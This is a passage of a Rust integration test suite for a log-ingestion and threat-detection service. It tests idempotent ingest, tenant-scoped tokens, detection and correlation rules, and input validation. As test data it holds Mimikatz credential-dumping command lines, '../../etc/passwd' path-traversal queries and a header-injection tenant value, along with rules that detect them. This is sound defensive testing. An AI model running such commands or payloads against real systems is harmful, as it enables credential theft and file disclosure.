            .header("idempotency-key", "batch-0001")
            .body("{\"msg\":\"one\"}\n{\"msg\":\"two\"}\nbroken\n")
            .send()
    };
    // Another process's connection to the database, refusing every recorded answer.
    let url = format!("sqlite://{}", app.data_dir.join("vigil.db").display());
    let db = sqlx::SqlitePool::connect(&url).await.unwrap();
    sqlx::query(
        "CREATE TRIGGER refuse_answers BEFORE INSERT ON ingest_keys \
         BEGIN SELECT RAISE(ABORT, 'disk trouble'); END",
    )
    .execute(&db)
    .await
    .unwrap();
    for _ in 0..2 {
        let refused = post().await.unwrap();
        assert_eq!(refused.status(), StatusCode::INTERNAL_SERVER_ERROR);
    }
    sqlx::query("DROP TRIGGER refuse_answers")
        .execute(&db)
        .await
        .unwrap();
    let answered = post().await.unwrap();
    assert_eq!(answered.status(), StatusCode::OK);
    assert_eq!(answered.headers()["idempotent-replayed"], "true");
    let answered: Value = answered.json().await.unwrap();
    assert_eq!(
        (&answered["stored"], &answered["rejected"][0]["line"]),
        (&json!(2), &json!(3)),
        "{answered}"
    );
    assert_eq!(
        post().await.unwrap().json::<Value>().await.unwrap(),
        answered
    );
    app.searchable().await;
    let (_, stats) = app.get(&app.responder_token, "/events/stats").await;
    assert_eq!(stats["total_events"], 2, "stored once: {stats}");
}

/// A keyed batch whose sender hangs up while it is being stored keeps its key until its answer
/// is recorded: sent again meanwhile, it is refused as being stored (never stored a second
/// time, detections included), and once recorded it is answered as the first sending was.
#[tokio::test]
async fn a_batch_sent_again_after_its_sender_hung_up_is_stored_once() {
    use tokio::io::AsyncWriteExt;
    let rules = rules_dir();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let shipper = app
        .token(json!({"name": "shipper", "role": "ingest", "service": "web"}))
        .await;
    let batch = "{\"command\":\"mimikatz.exe privilege::debug\"}\n{\"command\":\"notepad.exe\"}\n";
    let resend = || {
        http()
            .post(app.url("/events?host=w1"))
            .bearer_auth(&shipper)
            .header("content-type", "application/x-ndjson")
            .header("idempotency-key", "batch-0001")
            .body(batch)
            .send()
    };
    // Another process holds the database's write lock: the batch is stored in the log store,
    // then its detections and answer wait to be recorded, for as long as the test says.
    let url = format!("sqlite://{}", app.data_dir.join("vigil.db").display());
    let mut db = <sqlx::SqliteConnection as sqlx::Connection>::connect(&url)
        .await
        .unwrap();
    sqlx::query("BEGIN IMMEDIATE")
        .execute(&mut db)
        .await
        .unwrap();

    // The first sending: the whole request written, then the connection closed, its answer
    // lost, once the batch is in the log store.
    let mut first = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let request = format!(
        "POST /api/v1/events?host=w1 HTTP/1.1\r\nhost: {}\r\nauthorization: Bearer {shipper}\r\n\
         content-type: application/x-ndjson\r\nidempotency-key: batch-0001\r\n\
         content-length: {}\r\n\r\n{batch}",
        app.addr,
        batch.len()
    );
    first.write_all(request.as_bytes()).await.unwrap();
    while app.events.next_id() < 2 {
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    drop(first);

    // Sent again while the first is being stored: refused, and stored no second time, however
    // long after the hang-up.
    for _ in 0..20 {
        let again = tokio::time::timeout(std::time::Duration::from_secs(10), resend())
            .await
            .expect("refused at once, not stored a second time")
            .unwrap();
        assert_eq!(again.status(), StatusCode::CONFLICT);
        let refused: Value = again.json().await.unwrap();
        assert!(
            refused["error"]["message"]
                .as_str()
                .unwrap()
                .contains("being stored now"),
            "{refused}"
        );
        assert_eq!(app.events.next_id(), 2, "stored once");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }

    // The database takes the answer: sent again, the batch gets the first answer.
    sqlx::query("ROLLBACK").execute(&mut db).await.unwrap();
    let answered = loop {
        let again = resend().await.unwrap();
        if again.status() != StatusCode::CONFLICT {
            break again;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    };
    assert_eq!(answered.status(), StatusCode::OK);
    assert_eq!(answered.headers()["idempotent-replayed"], "true");
    let answered: Value = answered.json().await.unwrap();
    assert_eq!(
        (&answered["stored"], &answered["detections"]),
        (&json!(2), &json!(1)),
        "{answered}"
    );
    app.searchable().await;
    let (_, stats) = app.get(&app.responder_token, "/events/stats").await;
    assert_eq!(stats["total_events"], 2, "stored once: {stats}");
    let (_, detections) = app.get(&app.responder_token, "/detections").await;
    assert_eq!(
        detections["items"].as_array().map(Vec::len),
        Some(1),
        "its detection recorded once: {detections}"
    );
}

#[tokio::test]
async fn bad_queries_and_missing_service_name_the_field_and_store_nothing() {
    let app = spawn_app().await;
    let (status, err) = app
        .send(&app.responder_token, "", "{\"a\":1}", "application/json")
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(err["error"]["field"], "service");
    let (status, err) = app
        .send(
            &app.responder_token,
            "service=x&colour=red",
            "{}",
            "application/json",
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{err}");
    for (path, field) in [
        ("/events/search?q=(unclosed", "q"),
        ("/events/search?q=a&from=yesterday", "from"),
        ("/events/search?q=a&limit=0", "limit"),
        ("/events/search?q=a&from=2026-12-01&to=2026-11-01", "to"),
        ("/events/pivot?value=", "value"),
        ("/events/pivot?value=2001:db8::/80", "value"),
        ("/events/search?q=2001:db8::/80", "q"),
        ("/events/search?cursor=zz", "cursor"),
        // %-escapes that are no UTF-8 are refused, not searched for as U+FFFD.
        ("/events/search?q=alice%FF", "q"),
        ("/events/search?q=a&from=%FF", "from"),
        ("/events/search?q=a&to=2026%E9", "to"),
        ("/events/search?q=a&cursor=%C3", "cursor"),
        ("/events/pivot?value=alice%FF", "value"),
        ("/events/pivot?value=alice&field=user%FF", "field"),
        ("/detections?service=web%FF", "service"),
    ] {
        let (status, err) = app.get(&app.responder_token, path).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {err}");
        assert_eq!(err["error"]["field"], field, "{path}");
    }
    for (path, field, message) in [
        (
            "/events/search?q=alice%FF",
            "q",
            "query parameter `q`: its %-escapes decode to bytes that are not UTF-8 text; %-escape the UTF-8 bytes of the text (é is %C3%A9)",
        ),
        (
            "/events/search?q=a&limit=-1",
            "limit",
            "query parameter `limit`: must be a whole number from 1 to 1000",
        ),
        (
            "/events/pivot?value=a&limit=-1",
            "limit",
            "query parameter `limit`: must be a whole number from 0 to 1000",
        ),
        (
            "/events/search?q=*%20|%20top%20-1%20status",
            "q",
            "`q`: `top -1` at byte 8: the count must be a whole number from 1 to 10000, e.g. | top 10 user.name",
        ),
    ] {
        let (status, err) = app.get(&app.responder_token, path).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {err}");
        assert_eq!(err["error"]["field"], field, "{path}");
        assert_eq!(err["error"]["message"], message, "{path}");
    }
    // Text that is UTF-8 is searched for as written, U+FFFD itself too.
    let (status, found) = app
        .get(&app.responder_token, "/events/search?q=caf%C3%A9%EF%BF%BD")
        .await;
    assert_eq!(status, StatusCode::OK, "{found}");
    app.searchable().await;
    let (_, stats) = app.get(&app.responder_token, "/events/stats").await;
    assert_eq!(stats["total_events"], 0);
}

#[tokio::test]
async fn ingest_tokens_only_send_and_only_as_their_service_and_tenant() {
    let app = spawn_app().await;
    let token = app
        .token(json!({"name": "web-shipper", "role": "ingest", "service": "web", "tenant": "acme"}))
        .await;
    // The binding fills in a missing service and tenant …
    let (status, report) = app.send(&token, "", "{\"m\":1}", "application/json").await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["stored"], 1);
    // … and refuses another.
    let (status, err) = app
        .send(&token, "service=db", "{\"m\":2}", "application/json")
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(err["error"]["message"].as_str().unwrap().contains("`web`"));
    let (status, _) = app
        .send(&token, "tenant=globex", "{\"m\":3}", "application/json")
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // It reads nothing.
    for path in [
        "/events/search?q=*",
        "/incidents",
        "/detections",
        "/events/stats",
    ] {
        let (status, err) = app.get(&token, path).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{path}");
        assert!(
            err["error"]["message"]
                .as_str()
                .unwrap()
                .contains("ingest token")
        );
    }
    // It raises alerts and reports for its service only (a report without one is for it).
    for (path, body) in [
        (
            "/alerts",
            json!({"title": "t", "severity": "SEV3", "source": "edr", "service": "db"}),
        ),
        ("/reports", json!({"description": "odd", "service": "db"})),
    ] {
        let resp = http()
            .post(app.url(path))
            .bearer_auth(&token)
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{path}");
    }
    let report = answer(
        http()
            .post(app.url("/reports"))
            .bearer_auth(&token)
            .json(&json!({"description": "odd"})),
    )
    .await;
    assert_eq!(report["service"], "web", "{report}");
    // A viewer reads but cannot send; scope binds only ingest tokens.
    let viewer = app.token(json!({"name": "v2", "role": "viewer"})).await;
    let (status, _) = app
        .send(&viewer, "service=web", "{}", "application/json")
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let resp = http()
        .post(app.url("/tokens"))
        .bearer_auth(&app.admin_token)
        .json(&json!({"name": "x", "role": "viewer", "service": "web"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    // No token at all.
    let resp = http()
        .post(app.url("/events?service=web"))
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    app.searchable().await;
    let (_, page) = app
        .get(&app.responder_token, "/events/search?q=service:web")
        .await;
    assert_eq!(page["total"], 1);
    assert_eq!(page["events"][0]["tenant"], "acme");
}

/// An alert is one tenant's: two tenants' senders matching the same rule on hosts of the same
/// name raise an alert each, each carrying its tenant, listed by tenant; declaring one brings
/// only its tenant into the incident.
#[tokio::test]
async fn detections_of_two_tenants_on_one_host_name_are_two_alerts() {
    let rules = rules_dir();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let acme = app
        .token(json!({"name": "acme-web", "role": "ingest", "service": "web", "tenant": "acme"}))
        .await;
    let globex = app
        .token(
            json!({"name": "globex-web", "role": "ingest", "service": "web", "tenant": "globex"}),
        )
        .await;
    let mimikatz = "{\"command\":\"mimikatz.exe\"}\n";
    for (token, events) in [(&acme, 2), (&globex, 1), (&acme, 1)] {
        let (status, report) = app
            .send(
                token,
                "host=web-a1",
                &mimikatz.repeat(events),
                "application/x-ndjson",
            )
            .await;
        assert_eq!(
            (status, &report["detections"]),
            (StatusCode::OK, &json!(events)),
            "{report}"
        );
    }
    let (_, page) = app.get(&app.responder_token, "/alerts").await;
    assert_eq!(page["total"], 2, "{page}");
    let of = |tenant: &str| {
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["tenant"] == tenant)
            .unwrap_or_else(|| panic!("no alert of {tenant}: {page}"))
            .clone()
    };
    let (acme_alert, globex_alert) = (of("acme"), of("globex"));
    assert_eq!(acme_alert["count"], 3);
    assert_eq!(globex_alert["count"], 1);
    assert_eq!(acme_alert["dedup_key"], globex_alert["dedup_key"]);
    assert_eq!(acme_alert["event_ids"].as_array().unwrap().len(), 3);
    let (_, only) = app.get(&app.responder_token, "/alerts?tenant=globex").await;
    assert_eq!(only["total"], 1);
    assert_eq!(only["items"][0]["key"], globex_alert["key"]);
    let key = acme_alert["key"].as_str().unwrap();
    let (_, shown) = app
        .get(&app.viewer_token(), &format!("/alerts/{key}"))
        .await;
    assert_eq!(shown["tenant"], "acme");
    assert!(
        shown["summary"]
            .as_str()
            .unwrap()
            .contains("tenant \"acme\"")
    );
    let incident = answer(
        http()
            .post(app.url("/alerts/declare"))
            .bearer_auth(&app.responder_token)
            .json(&json!({"alerts": [key]})),
    )
    .await;
    assert_eq!(incident["tenants"], json!(["acme"]), "{incident}");
}

/// An alert posted with a token bound to a tenant is that tenant's: it folds only into that
/// tenant's open alert with its key, never into another tenant's, whose alert the answer never
/// shows; naming another tenant (or service) is refused. A token bound to no tenant may name
/// one, checked as an event's tenant is.
#[tokio::test]
async fn a_tenants_token_raises_alerts_of_its_tenant_only() {
    let app = spawn_app().await;
    let acme = app
        .token(json!({"name": "acme-web", "role": "ingest", "service": "web", "tenant": "acme"}))
        .await;
    let globex = app
        .token(
            json!({"name": "globex-web", "role": "ingest", "service": "web", "tenant": "globex"}),
        )
        .await;
    let raise = |token: &str, body: Value| {
        let request = http()
            .post(app.url("/alerts"))
            .bearer_auth(token)
            .json(&body);
        async move {
            let resp = request.send().await.unwrap();
            let status = resp.status();
            (status, resp.json::<Value>().await.unwrap())
        }
    };
    let waf = |title: &str| json!({"title": title, "severity": "SEV3", "source": "waf", "service": "web", "dedup_key": "sqli|10.0.0.9"});
    let (status, theirs) = raise(&globex, waf("SQL injection at checkout")).await;
    assert_eq!(status, StatusCode::CREATED, "{theirs}");
    assert_eq!(theirs["alert"]["tenant"], "globex");
    // acme's shipper guessing globex's key gets an alert of its own, and learns nothing.
    let (status, spoof) = raise(&acme, waf("spoof")).await;
    assert_eq!(status, StatusCode::CREATED, "{spoof}");
    assert_eq!(spoof["outcome"], "created");
    assert_eq!(spoof["alert"]["tenant"], "acme");
    assert_eq!(spoof["alert"]["title"], "spoof");
    assert_ne!(spoof["alert"]["key"], theirs["alert"]["key"]);
    let key = theirs["alert"]["key"].as_str().unwrap();
    let (_, stored) = app
        .get(&app.responder_token, &format!("/alerts/{key}"))
        .await;
    assert_eq!(
        (stored["count"].as_u64(), stored["title"].as_str()),
        (Some(1), Some("SQL injection at checkout"))
    );
    // Its own repeat folds into its own alert.
    let (status, again) = raise(&acme, waf("spoof")).await;
    assert_eq!(
        (status, &again["outcome"]),
        (StatusCode::OK, &json!("deduplicated"))
    );
    assert_eq!(again["alert"]["key"], spoof["alert"]["key"]);
    // Another tenant or service named is refused, saying which.
    for (field, value) in [("tenant", "globex"), ("service", "db")] {
        let mut body = waf("x");
        body[field] = json!(value);
        let (status, err) = raise(&acme, body).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{field}: {err}");
        let message = err["error"]["message"].as_str().unwrap();
        assert!(message.contains(&format!("`{value}`")), "{message}");
    }
    // Repeating its own tenant is fine; a report of a tenant's token is that tenant's.
    let mut own = waf("spoof");
    own["tenant"] = json!("acme");
    let (status, _) = raise(&acme, own).await;
    assert_eq!(status, StatusCode::OK);
    let report = answer(
        http()
            .post(app.url("/reports"))
            .bearer_auth(&acme)
            .json(&json!({"description": "odd login page"})),
    )
    .await;
    assert_eq!(report["tenant"], "acme", "{report}");
    // A token of no tenant names one, or none; a tenant is a one-line name.
    let mut named = waf("SQL injection at checkout");
    named["tenant"] = json!("globex");
    let (status, folded) = raise(&app.responder_token, named).await;
    assert_eq!(
        (status, &folded["alert"]["key"]),
        (StatusCode::OK, &json!(key))
    );
    let (status, none) = raise(&app.responder_token, waf("unscoped")).await;
    assert_eq!(status, StatusCode::CREATED, "{none}");
    assert!(none["alert"].get("tenant").is_none(), "{none}");
    let mut bad = waf("x");
    bad["tenant"] = json!("acme\nBcc: x@y");
    let (status, err) = raise(&app.responder_token, bad).await;
    assert_eq!(
        (status, &err["error"]["field"]),
        (StatusCode::BAD_REQUEST, &json!("tenant")),
        "{err}"
    );
}

/// A poller that keeps the largest id it saw and asks for those after it gets every detection,
/// oldest first, however many arrived between two polls: `after_id` pages forward.
#[tokio::test]
async fn after_id_pages_forward_through_every_detection_oldest_first() {
    let rules = rules_dir();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let body: String = (0..7)
        .map(|n| format!("{{\"command\":\"mimikatz run {n}\"}}\n"))
        .collect();
    let (_, report) = app
        .send(
            &app.responder_token,
            "service=edr",
            &body,
            "application/x-ndjson",
        )
        .await;
    assert_eq!(report["detections"], 7, "{report}");
    let (_, newest) = app.get(&app.viewer_token(), "/detections?limit=7").await;
    let mut all: Vec<i64> = newest["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["id"].as_i64().unwrap())
        .collect();
    all.sort_unstable();
    let mut seen = Vec::new();
    let mut after = 0;
    loop {
        let (status, page) = app
            .get(
                &app.viewer_token(),
                &format!("/detections?after_id={after}&limit=3"),
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{page}");
        let ids: Vec<i64> = page["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| d["id"].as_i64().unwrap())
            .collect();
        // `total` counts what is after `after_id`, this page included.
        assert_eq!(page["total"], (all.len() - seen.len()) as u64, "{page}");
        let Some(&last) = ids.last() else { break };
        assert!(ids.windows(2).all(|w| w[0] < w[1]), "oldest first: {ids:?}");
        seen.extend(ids);
        after = last;
    }
    assert_eq!(seen, all);
}

/// `after_id` is the id of a detection seen, never negative: `-1` is refused as `abc` is,
/// with the range it takes, rather than read as "from the first".
#[tokio::test]
async fn after_id_is_a_whole_number_of_zero_or_more() {
    let app = spawn_app().await;
    for (query, says) in [
        ("after_id=-1", "must be a whole number of 0 or more"),
        ("after_id=abc", "must be a whole number"),
        (
            "after_id=9223372036854775808",
            "must be a whole number from 0 to 9223372036854775807",
        ),
    ] {
        let (status, body) = app
            .get(&app.viewer_token(), &format!("/detections?{query}"))
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
        assert_eq!(body["error"]["field"], "after_id", "{query}: {body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains(says), "{query}: {message}");
    }
    let (_, body) = app
        .get(&app.viewer_token(), "/detections?after_id=-1")
        .await;
    let message = body["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("the id of the last detection seen"),
        "{message}"
    );
    let (status, body) = app.get(&app.viewer_token(), "/detections?after_id=0").await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

#[tokio::test]
async fn every_ingested_event_is_matched_and_matches_are_recorded_as_detections() {
    let rules = rules_dir();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let (_, status) = app.get(&app.responder_token, "/rules").await;
    assert_eq!(status["loaded"], 1);
    let body = "{\"command\":\"C:\\\\tools\\\\MIMIKATZ.exe privilege::debug\",\"user\":\"eve\"}\n{\"command\":\"notepad.exe\"}\n";
    let (_, report) = app
        .send(
            &app.responder_token,
            "service=edr&host=pc-7&tenant=acme",
            body,
            "application/x-ndjson",
        )
        .await;
    assert_eq!(report["stored"], 2);
    assert_eq!(report["detections"], 1);
    let (status, page) = app
        .get(&app.viewer_token(), "/detections?min_level=high")
        .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert_eq!(page["total"], 1);
    let d = &page["items"][0];
    assert_eq!(d["rule_id"], "0d894093-71bc-43c3-8c4d-ecfa28dcadcc");
    assert_eq!(d["rule_title"], "Mimikatz on the command line");
    assert_eq!(d["level"], "high");
    assert_eq!(
        (
            d["service"].as_str(),
            d["host"].as_str(),
            d["tenant"].as_str()
        ),
        (Some("edr"), Some("pc-7"), Some("acme"))
    );
    assert!(
        d["tags"]
            .as_array()
            .unwrap()
            .contains(&json!("attack.t1003"))
    );
    // The detection names the stored event.
    app.searchable().await;
    let (_, found) = app
        .get(&app.responder_token, "/events/search?q=user:eve")
        .await;
    assert_eq!(found["events"][0]["id"], d["event_id"]);
    // One detection reads back with the event it matched; a wrong id is named.
    let (status, one) = app
        .get(&app.viewer_token(), &format!("/detections/{}", d["id"]))
        .await;
    assert_eq!(status, StatusCode::OK, "{one}");
    assert_eq!(one["rule_title"], "Mimikatz on the command line");
    assert_eq!(one["event"]["id"], d["event_id"]);
    assert_eq!(one["event"]["event"], found["events"][0]["event"]);
    let (status, missing) = app.get(&app.viewer_token(), "/detections/999999").await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{missing}");
    let (status, bad) = app.get(&app.viewer_token(), "/detections/abc").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}");
    assert_eq!(bad["error"]["field"], "id");
    let anonymous = http()
        .get(app.url(&format!("/detections/{}", d["id"])))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), StatusCode::UNAUTHORIZED);
    let (_, none) = app
        .get(&app.responder_token, "/detections?min_level=critical")
        .await;
    assert_eq!(none["total"], 0);

    // Reload: a second rule is picked up without a restart; viewers may not reload.
    std::fs::write(
        rules.path().join("notepad.yml"),
        RULE.replace(
            "0d894093-71bc-43c3-8c4d-ecfa28dcadcc",
            "4e1d3e4a-0000-4000-8000-000000000001",
        )
        .replace("mimikatz", "notepad")
        .replace("Mimikatz", "Notepad"),
    )
    .unwrap();
    let resp = http()
        .post(app.url("/rules/reload"))
        .bearer_auth(&app.responder_token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let resp = http()
        .post(app.url("/rules/reload"))
        .bearer_auth(&app.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.json::<Value>().await.unwrap()["loaded"], 2);
    let (_, report) = app
        .send(
            &app.responder_token,
            "service=edr",
            "{\"command\":\"notepad.exe x\"}",
            "application/json",
        )
        .await;
    assert_eq!(report["detections"], 1);

    // A rule edited into a broken state holds the reload back: the running set keeps it.
    let notepad = rules.path().join("notepad.yml");
    let good = std::fs::read_to_string(&notepad).unwrap();
    std::fs::write(
        &notepad,
        good.replace("condition: sel", "condition: sel and"),
    )
    .unwrap();
    let resp = http()
        .post(app.url("/rules/reload"))
        .bearer_auth(&app.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CONFLICT);
    let message = resp.json::<Value>().await.unwrap()["error"]["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        message.contains("notepad.yml") && message.contains("the previous rules stay loaded"),
        "{message}"
    );
    let (_, report) = app
        .send(
            &app.responder_token,
            "service=edr",
            "{\"command\":\"notepad.exe y\"}",
            "application/json",
        )
        .await;
    assert_eq!(report["detections"], 1, "the rule still detects");
    // The failure stays visible — when and why — in the rules' status and the metrics (a
    // SIGHUP has no one to answer), until a reload succeeds.
    let rules_status = || async { app.get(&app.viewer_token(), "/rules").await.1 };
    let metric = || async {
        let text = http()
            .get(app.url("/metrics"))
            .bearer_auth(app.viewer_token())
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        text.lines()
            .find_map(|l| l.strip_prefix("vigil_rules_reload_failed "))
            .map(str::to_owned)
    };
    let failed = rules_status().await["reload_failed"].clone();
    assert!(
        failed["error"].as_str().unwrap().contains("notepad.yml"),
        "{failed}"
    );
    assert!(failed["at"].as_str().is_some(), "{failed}");
    assert_eq!(metric().await.as_deref(), Some("1"));
    // Fixed, the reload goes through, and the failure is gone.
    std::fs::write(&notepad, good).unwrap();
    let resp = http()
        .post(app.url("/rules/reload"))
        .bearer_auth(&app.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(rules_status().await.get("reload_failed").is_none());
    assert_eq!(metric().await.as_deref(), Some("0"));
}

#[tokio::test]
async fn a_service_that_declares_its_logsources_meets_only_the_rules_written_for_them() {
    let rules = tempfile::tempdir().unwrap();
    let rule = |id: &str, logsource: &str, detection: &str| {
        format!(
            "title: {id}\nid: {id}\nlogsource:\n{logsource}detection:\n{detection}level: high\n"
        )
    };
    for (id, logsource, detection) in [
        (
            "ssh-brute",
            "  product: linux\n  service: auth\n",
            "  keywords:\n    - 'Failed password'\n  condition: keywords\n",
        ),
        (
            "web-traversal",
            "  category: webserver\n",
            "  sel:\n    cs-uri-query|contains: '../'\n  condition: sel\n",
        ),
        (
            "zeek-rdp-public",
            "  product: zeek\n  service: rdp\n",
            "  sel:\n    id.orig_h|cidr: '10.0.0.0/8'\n  condition: not sel\n",
        ),
    ] {
        std::fs::write(
            rules.path().join(format!("{id}.yml")),
            rule(id, logsource, detection),
        )
        .unwrap();
    }
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    // One event that looks like both an sshd line and a web request.
    let event = "{\"message\":\"Failed password for root from 203.0.113.9\",\"cs-uri-query\":\"f=../../etc/passwd\"}";
    let rules_of = |report: &Value| report["detections"].as_u64().unwrap();
    let bastion_sends = || async {
        let (_, report) = app
            .send(
                &app.responder_token,
                "service=bastion",
                event,
                "application/json",
            )
            .await;
        rules_of(&report)
    };
    // Before the services say what they are, every rule whose fields the event holds is tried,
    // but not the keywords of a log the event is not said to be (the sshd rule's words).
    assert_eq!(bastion_sends().await, 1);

    let org = json!({
        "people": [{"name": "alice"}],
        "teams": [{"name": "platform", "members": ["alice"]}],
        "services": [
            {"name": "bastion", "team": "platform",
             "logsources": [{"product": "linux", "service": "auth"}]},
            {"name": "zeek", "team": "platform",
             "logsources": [{"product": "zeek", "service": "rdp"}]}
        ]
    });
    let (status, _) = app.put_org(&org).await;
    assert_eq!(status, StatusCode::OK);
    // At once: the bastion's log is an auth log, so only the rule for auth logs sees it.
    assert_eq!(bastion_sends().await, 1);
    // Zeek's rule, a negated selection, applies to Zeek's log on its condition alone.
    let (_, report) = app
        .send(
            &app.responder_token,
            "service=zeek",
            "{\"uid\":\"C1\",\"id.resp_p\":3389}",
            "application/json",
        )
        .await;
    assert_eq!(rules_of(&report), 1, "{report}");
    let (_, page) = app
        .get(&app.responder_token, "/detections?service=zeek")
        .await;
    assert_eq!(page["items"][0]["rule_id"], "zeek-rdp-public", "{page}");
    let (_, page) = app
        .get(&app.responder_token, "/detections?service=bastion")
        .await;
    let ids: Vec<&str> = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["rule_id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids.iter().filter(|i| **i == "web-traversal").count(),
        1,
        "{page}"
    );

    // The rules status says what each declaring service's logs meet.
    let (_, status) = app.get(&app.responder_token, "/rules").await;
    assert_eq!(
        status["services"],
        json!([
            {"service": "bastion", "logsources": ["product=linux,service=auth"], "rules": 1},
            {"service": "zeek", "logsources": ["product=zeek,service=rdp"], "rules": 1}
        ])
    );
    // A misspelt logsource is allowed (rules may come later) but said to open no rule.
    let mut misspelt = org.clone();
    misspelt["services"][1]["logsources"] = json!([{"category": "webservers"}]);
    let (status, state) = app.put_org(&misspelt).await;
    assert_eq!(status, StatusCode::OK);
    let warnings = state["warnings"].as_array().unwrap();
    // The logsource's, and that a service no team owns would page nobody (no central team).
    assert_eq!(warnings.len(), 2, "{state}");
    assert!(
        warnings[1]
            .as_str()
            .unwrap()
            .starts_with("central_team: none is named"),
        "{state}"
    );
    assert!(
        warnings[0].as_str().unwrap().starts_with(
            "services[1].logsources: no loaded rule is written for category=webservers"
        ),
        "{state}"
    );
    let (_, status) = app.get(&app.responder_token, "/rules").await;
    assert_eq!(status["services"][1]["rules"], 0, "{status}");

    // A logsource that names nothing is refused with its field, and nothing changes.
    let mut bad = org.clone();
    bad["services"][0]["logsources"] = json!([{}]);
    let (status, body) = app.put_org(&bad).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        body.to_string().contains("services[0].logsources[0]"),
        "{body}"
    );
    assert_eq!(bastion_sends().await, 1);
}

#[tokio::test]
async fn a_service_says_where_its_events_hold_the_fields_rules_name() {
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("traversal.yml"),
        "title: Path traversal
id: web-traversal
logsource:
  category: webserver
detection:
  sel:
    cs-uri-query|contains: '../'
    cs-method: GET
  condition: sel
level: high
",
    )
    .unwrap();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    // An access log in Elastic Common Schema: the rule's W3C names are not its fields.
    let event = r#"{"url":{"query":"f=../../etc/passwd"},"http":{"request":{"method":"GET"}}}"#;
    let send = || async {
        let (_, report) = app
            .send(
                &app.responder_token,
                "service=web",
                event,
                "application/json",
            )
            .await;
        report["detections"].as_u64().unwrap()
    };
    assert_eq!(send().await, 0);
    let org = json!({
        "people": [{"name": "alice"}],
        "teams": [{"name": "web", "members": ["alice"]}],
        "services": [{
            "name": "web", "team": "web",
            "logsources": [{"category": "webserver"}],
            "fields": {"cs-uri-query": "url.query", "cs-method": "http.request.method"}
        }]
    });
    let (status, state) = app.put_org(&org).await;
    assert_eq!(status, StatusCode::OK, "{state}");
    assert_eq!(send().await, 1);
    // The stored event is the one sent, searchable under its own names.
    app.searchable().await;
    let (_, found) = app
        .get(
            &app.responder_token,
            "/events/search?q=http.request.method:GET",
        )
        .await;
    assert_eq!(found["total"], 2, "{found}");
    // A blank mapping is refused with its field.
    let mut bad = org.clone();
    bad["services"][0]["fields"] = json!({"cs-method": " "});
    let (status, body) = app.put_org(&bad).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["error"]["field"], "services[0].fields", "{body}");
}

/// A failed logon rule that only feeds the correlation counting three of them for one user
/// within five minutes.
const BRUTE_FORCE: &str = "title: Failed logon
id: 1a6f2a8e-0000-4000-8000-00000000f001
name: failed_logon
logsource:
  product: linux
  service: auth
detection:
  failed:
    message|contains: 'Failed password'
  condition: failed
level: low
---
title: Brute force against one account
id: 1a6f2a8e-0000-4000-8000-00000000f002
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [user]
  timespan: 5m
  condition:
    gte: 3
level: high
";

#[tokio::test]
async fn correlation_rules_add_up_matches_across_batches_within_a_tenant() {
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(rules.path().join("brute.yml"), BRUTE_FORCE).unwrap();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let (_, status) = app.get(&app.responder_token, "/rules").await;
    assert_eq!(status["loaded"], 2, "{status}");
    let line = |user: &str, minute: u32| {
        format!(
            "{{\"@timestamp\":\"2026-12-01T10:{minute:02}:00Z\",\"user\":\"{user}\",\"message\":\"Failed password for {user}\"}}\n"
        )
    };
    let send = |tenant: &'static str, body: String| {
        let app = &app;
        async move {
            let (status, report) = app
                .send(
